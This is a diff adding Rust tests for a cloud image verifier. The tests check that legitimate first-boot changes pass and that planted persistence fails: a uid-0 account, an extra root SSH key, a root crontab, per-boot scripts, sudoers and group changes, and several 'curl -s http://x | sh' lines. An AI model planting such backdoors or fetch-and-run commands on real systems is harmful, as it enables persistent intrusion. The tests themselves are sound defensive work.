@@ -1115,3 +1115,302 @@ fn files_level_added_directory_only_expected_under_mutable_globs() {
         (&json!("/etc/evil.d"), &json!("added"))
     );
 }
+
+// ------------------------------------------------------------ first boot
+
+const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n\
+    daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n";
+const SHADOW: &str = "root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n";
+const GROUP: &str = "root:x:0:\ndaemon:x:1:\nsudo:x:27:\nadm:x:4:\n";
+
+fn put(root: &Path, path: &str, body: &str) {
+    let f = root.join(path.trim_start_matches('/'));
+    std::fs::create_dir_all(f.parent().unwrap()).unwrap();
+    std::fs::write(f, body).unwrap();
+}
+
+fn chmod(root: &Path, path: &str, mode: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(
+        root.join(path.trim_start_matches('/')),
+        std::fs::Permissions::from_mode(mode),
+    )
+    .unwrap();
+}
+
+/// A Debian-like image as baked: system accounts, cloud-init configured
+/// with its default user `debian`, an /etc/skel, the empty state and spool
+/// directories.
+fn baked_accounts(root: &Path) {
+    put(root, "/etc/passwd", PASSWD);
+    put(root, "/etc/shadow", SHADOW);
+    put(root, "/etc/group", GROUP);
+    put(
+        root,
+        "/etc/cloud/cloud.cfg",
+        "users:\n  - default\ndisable_root: true\nsystem_info:\n  distro: debian\n  default_user:\n    name: debian\n    lock_passwd: True\n    groups: [adm, sudo]\n    sudo: [\"ALL=(ALL) NOPASSWD:ALL\"]\n    shell: /bin/bash\n",
+    );
+    put(root, "/etc/skel/.bashrc", "# ~/.bashrc from /etc/skel\n");
+    put(root, "/etc/skel/.profile", "# ~/.profile from /etc/skel\n");
+    for d in [
+        "var/lib/systemd",
+        "var/lib/cloud/scripts/per-boot",
+        "var/spool/cron/crontabs",
+        "etc/sudoers.d",
+    ] {
+        std::fs::create_dir_all(root.join(d)).unwrap();
+    }
+}
+
+/// What cloud-init and systemd do on a Debian image's first boot: the
+/// default user with the key the instance was given (also in root's
+/// authorized_keys behind disable_root's command=), its sudoers drop-in and
+/// groups, skel copies, host keys, logs, timer stamps, cloud-init state.
+fn legit_first_boot(root: &Path, key: &str) {
+    put(
+        root,
+        "/etc/passwd",
+        &format!("{PASSWD}debian:x:1000:1000:Debian:/home/debian:/bin/bash\n"),
+    );
+    put(
+        root,
+        "/etc/shadow",
+        &format!("{SHADOW}debian:!:20000:0:99999:7:::\n"),
+    );
+    put(
+        root,
+        "/etc/group",
+        "root:x:0:\ndaemon:x:1:\nsudo:x:27:debian\nadm:x:4:debian\ndebian:x:1000:\n",
+    );
+    put(
+        root,
+        "/etc/sudoers.d/90-cloud-init-users",
+        "# Created by cloud-init v. 22.4.2 on Mon, 01 Jan 2024 00:00:00 +0000\n\n# User rules for debian\ndebian ALL=(ALL) NOPASSWD:ALL\n",
+    );
+    chmod(root, "/etc/sudoers.d/90-cloud-init-users", 0o440);
+    put(root, "/home/debian/.bashrc", "# ~/.bashrc from /etc/skel\n");
+    put(
+        root,
+        "/home/debian/.profile",
+        "# ~/.profile from /etc/skel\n",
+    );
+    put(
+        root,
+        "/home/debian/.ssh/authorized_keys",
+        &format!("{key}\n"),
+    );
+    put(
+        root,
+        "/root/.ssh/authorized_keys",
+        &format!(
+            "no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command=\"echo 'Please login as the user \\\"debian\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\" {key}\n"
+        ),
+    );
+    let ssh = root.join("etc/ssh");
+    std::fs::create_dir_all(&ssh).unwrap();
+    let _ = std::fs::remove_file(ssh.join("ssh_host_ed25519_key"));
+    let _ = std::fs::remove_file(ssh.join("ssh_host_ed25519_key.pub"));
+    let st = Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-C", "live", "-f"])
+        .arg(ssh.join("ssh_host_ed25519_key"))
+        .status()
+        .expect("ssh-keygen");
+    assert!(st.success());
+    put(root, "/etc/hostname", "ip-10-0-0-10\n");
+    put(
+        root,
+        "/var/log/cloud-init.log",
+        "2026-01-01 cloud-init ran\n",
+    );
+    put(root, "/var/log/journal/0123/system.journal", "LPKSHHRH");
+    put(root, "/var/lib/systemd/timers/stamp-apt-daily.timer", "");
+    put(root, "/var/lib/systemd/random-seed", "seed");
+    put(
+        root,
+        "/var/lib/cloud/instances/i-0123456789abcdef0/user-data.txt",
+        "#cloud-config\n",
+    );
+    put(
+        root,
+        "/var/lib/cloud/data/instance-id",
+        "i-0123456789abcdef0\n",
+    );
+}
+
+fn ssh_pub(dir: &Path, name: &str) -> String {
+    let k = dir.join(name);
+    let st = Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
+        .arg(&k)
+        .status()
+        .expect("ssh-keygen");
+    assert!(st.success());
+    std::fs::read_to_string(k.with_extension("pub"))
+        .unwrap()
+        .trim()
+        .to_string()
+}
+
+/// issue 10 item 4: the legitimate first-boot changes verify; each
+/// persistence the old expected-mutable globs hid fails `--level files`.
+#[test]
+fn first_boot_changes_are_judged_not_ignored() {
+    let keys = tempfile::tempdir().unwrap();
+    let given = ssh_pub(keys.path(), "given");
+    let other = ssh_pub(keys.path(), "other");
+    let c = bake(baked_accounts);
+    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION, "--public-key", &given]);
+    legit_first_boot(&c.root, &given);
+    let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
+    assert_eq!(code, 0, "legit first boot: {text}\n{v:#}");
+    assert!(text.contains("PASS first-boot"), "{text}");
+    assert!(text.contains("1 key(s) given by IMDS"), "{text}");
+
+    // --ami without IMDS: no key was given, the default user's key is one
+    // too many.
+    let (code, _, v) = verify(
+        &c,
+        &dead_endpoint(),
+        &c.key_pub,
+        &["--level", "files", "--ami", &format!("{REGION}:{AMI}")],
+    );
+    assert_eq!(code, 1, "{v:#}");
+    let d = failed_detail(&v, "first-boot");
+    assert!(
+        d.contains("authorized-key /root/.ssh/authorized_keys")
+            && d.contains("not a key the instance was given"),
+        "{d}"
+    );
+
+    type Change = Box<dyn Fn(&Path)>;
+    let cases: Vec<(&str, Change, &str)> = vec![
+        (
+            "uid-0 line",
+            Box::new(|r| {
+                put(
+                    r,
+                    "/etc/passwd",
+                    &format!(
+                        "{PASSWD}debian:x:1000:1000:Debian:/home/debian:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n"
+                    ),
+                )
+            }),
+            "uid-0 /etc/passwd",
+        ),
+        (
+            "key not given by IMDS",
+            Box::new(|r| {
+                let f = r.join("root/.ssh/authorized_keys");
+                let mut s = std::fs::read_to_string(&f).unwrap();
+                s.push_str(&other);
+                s.push('\n');
+                std::fs::write(f, s).unwrap();
+            }),
+            "authorized-key /root/.ssh/authorized_keys",
+        ),
+        (
+            "executable in /var/lib/systemd",
+            Box::new(|r| {
+                put(r, "/var/lib/systemd/evil.sh", "curl -s http://x | sh\n");
+                chmod(r, "/var/lib/systemd/evil.sh", 0o755);
+            }),
+            "state /var/lib/systemd/evil.sh",
+        ),
+        (
+            "root crontab",
+            Box::new(|r| {
+                put(
+                    r,
+                    "/var/spool/cron/crontabs/root",
+                    "@reboot curl -s http://x | sh\n",
+                )
+            }),
+            "/var/spool/cron/crontabs/root",
+        ),
+        (
+            "per-boot script",
+            Box::new(|r| {
+                put(r, "/var/lib/cloud/scripts/per-boot/x", "#!/bin/sh\nid\n");
+                chmod(r, "/var/lib/cloud/scripts/per-boot/x", 0o755);
+            }),
+            "state /var/lib/cloud/scripts/per-boot/x",
+        ),
+        (
+            "sudoers rule for another user",
+            Box::new(|r| {
+                put(
+                    r,
+                    "/etc/sudoers.d/90-cloud-init-users",
+                    "debian ALL=(ALL) NOPASSWD:ALL\ndaemon ALL=(ALL) NOPASSWD:ALL\n",
+                )
+            }),
+            "sudoers /etc/sudoers.d/90-cloud-init-users",
+        ),
+        (
+            "skel file altered in the new home",
+            Box::new(|r| put(r, "/home/debian/.bashrc", "curl -s http://x | sh\n")),
+            "home /home/debian/.bashrc",
+        ),
+        (
+            "daemon added to sudo",
+            Box::new(|r| {
+                put(
+                    r,
+                    "/etc/group",
+                    "root:x:0:\ndaemon:x:1:\nsudo:x:27:debian,daemon\nadm:x:4:debian\ndebian:x:1000:\n",
+                )
+            }),
+            "group-changed /etc/group",
+        ),
+    ];
+    for (what, change, expect) in cases {
+        change(&c.root);
+        let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
+        assert_eq!(code, 1, "{what} must fail: {text}\n{v:#}");
+        let all = format!(
+            "{}{}",
+            failed_detail(&v, "first-boot"),
+            v["differences"]["files"]
+        );
+        assert!(all.contains(expect), "{what}: expected {expect:?} in {all}");
+        // Back to the legitimate first boot.
+        for p in [
+            "var/lib/systemd/evil.sh",
+            "var/spool/cron/crontabs/root",
+            "var/lib/cloud/scripts/per-boot/x",
+        ] {
+            let _ = std::fs::remove_file(c.root.join(p));
+        }
+        legit_first_boot(&c.root, &given);
+    }
+    let (code, text, _) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
+    assert_eq!(code, 0, "restored: {text}");
+}
+
+/// The ignored paths are not read: a 256 GiB sparse file in the live /tmp
+/// (hashing it would take minutes) neither slows verify nor matters.
+#[test]
+fn ignored_paths_are_not_hashed() {
+    let c = bake(|_| {});
+    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION]);
+    let big = c.root.join("tmp/big");
+    let st = Command::new("truncate")
+        .args(["-s", "256G"])
+        .arg(&big)
+        .status()
+        .expect("truncate");
+    assert!(st.success());
+    let t = Instant::now();
+    let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
+    // Hang guard only (two runs): hashing 256 GiB takes far longer.
+    assert!(t.elapsed() < Duration::from_secs(60), "{:?}", t.elapsed());
+    assert_eq!(code, 0, "{text}\n{v:#}");
+    // Made executable, it is a finding from its mode alone.
+    chmod(&c.root, "/tmp/big", 0o755);
+    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
+    assert_eq!(code, 1, "{v:#}");
+    assert!(
+        failed_detail(&v, "first-boot").contains("state /tmp/big: executable"),
+        "{v:#}"
+    );
+}
